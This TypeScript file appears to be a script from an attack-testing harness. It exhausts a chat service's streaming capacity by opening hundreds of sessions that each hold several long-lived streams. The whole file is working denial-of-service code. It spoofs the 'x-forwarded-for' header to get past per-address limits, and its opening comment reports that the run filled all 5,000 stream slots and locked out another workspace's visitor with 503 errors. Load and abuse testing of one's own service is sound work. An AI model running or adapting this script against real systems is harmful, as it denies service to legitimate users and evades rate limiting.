// Chat streams that are opened and kept: 625 sessions with 8 each took all 5,000, and a visitor of
// another workspace got 503.
import { Agent, request, type IncomingMessage } from 'node:http';
import { once } from 'node:events';
import { attack, inParallel, openChat, stranger, type Target } from './attack.ts';

interface Args extends Target {
  readonly workspace: string;
  readonly addresses: number;
  readonly sessions: number;
  readonly each: number;
}

const CONNECTIONS = 50;

await attack<Args>(async ({ url, workspace, addresses, sessions, each }, run) => {
  const agent = new Agent({ maxSockets: Infinity });
  let next = 0;
  await inParallel(CONNECTIONS, run, async () => {
    const n = next++;
    if (n >= sessions) return false;
    const from = stranger(n % addresses);
    const token = await openChat(url, workspace, from, run.tally);
    for (let stream = 0; token !== null && stream < each && !run.isOver(); stream += 1)
      await open(from, token);
    return true;
  });
  run.begun();
  if (!run.isOver()) await once(run.over, 'abort');

  async function open(from: string, token: string): Promise<void> {
    const outgoing = request(new URL('/api/chat/stream', url), {
      agent,
      signal: run.over,
      headers: { authorization: `Bearer ${token}`, 'x-forwarded-for': from },
    });
    outgoing.on('error', () => {});
    outgoing.end();
    try {
      const [answer] = (await once(outgoing, 'response')) as [IncomingMessage];
      answer.on('error', () => {}).resume();
      run.tally(`streams ${answer.statusCode}`);
    } catch {
      run.tally('streams broken');
    }
  }
});
